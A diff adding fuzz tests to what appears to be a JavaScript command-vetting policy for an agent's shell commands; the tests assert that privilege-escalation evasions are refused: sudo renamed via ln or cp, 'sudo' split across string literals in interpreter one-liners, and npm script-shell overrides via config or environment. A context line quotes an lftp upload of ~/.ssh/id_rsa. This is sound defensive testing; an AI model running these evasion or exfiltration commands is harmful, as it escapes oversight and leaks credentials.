@@ -333,6 +333,48 @@ test('fuzz: a versioned interpreter or shell is read as the program it is', () =
   allAdmitted(['python3.11 -m pytest', 'python3.12 -V', 'node20 --version', 'lua5.4 script.lua']);
 });
 
+test('fuzz: a program linked or copied under another name and run by it is read as itself', () => {
+  everyRefused(
+    fc.tuple(
+      fc.constantFrom('ln -s', 'ln -sf', 'cp', 'install', 'cp -p'),
+      fc.constantFrom('/usr/bin/sudo', '"$(command -v sudo)"', '$(which su)', '/bin/bash'),
+      fc.constantFrom('s', './s', '/tmp/s', 'bin/s'),
+      fc.constantFrom('; ', ' && ', '\n'),
+    ),
+    ([put, from, to, sep]) => {
+      const run = to.includes('/') ? to : `./${to}`;
+      return `${put} ${from} ${to}${sep}${run} ${from.includes('bash') ? "-c 'sudo id'" : '-c id'}`;
+    },
+  );
+  allAdmitted(['ln -s ../lib/tool.js bin/tool; ./bin/tool --help', 'cp /usr/bin/true ./t; ./t']);
+});
+
+test('fuzz: string literals joined in a one-liner are read as one command line', () => {
+  everyRefused(
+    fc.constantFrom(
+      `python3 -c "import os; os.system('s'+'udo id')"`,
+      `python3 -c "import os; os.system('su' 'do id')"`,
+      `perl -e 'system("su"."do id")'`,
+      `php -r 'system("su"."do id");'`,
+      `node -e "require('child_process').execSync('su' + 'do id')"`,
+      `ruby -e 'system("s" + "udo id")'`,
+    ),
+    (c) => c,
+  );
+  allAdmitted([`python3 -c "print('a' + 'b')"`, `node -e "console.log('x' + 'y')"`]);
+});
+
+test("npm's script shell set through pnpm's --config. or the environment is refused as --script-shell is", () => {
+  for (const command of [
+    'pnpm --config.script-shell=/tmp/x run t',
+    'npm_config_script_shell=/tmp/x npm test',
+    'NPM_CONFIG_SCRIPT_SHELL=./sh npm run build',
+    'export npm_config_userconfig=./evil.npmrc; npm ci',
+  ])
+    assert.equal(verdict(command).kind, 'DENY', command);
+  allAdmitted(['npm_config_loglevel=silent npm test', 'pnpm --config.strict-peer-dependencies=false i']);
+});
+
 test('the real process refuses them', () => {
   for (const command of [
     "lftp -c 'open h; put ~/.ssh/id_rsa'",
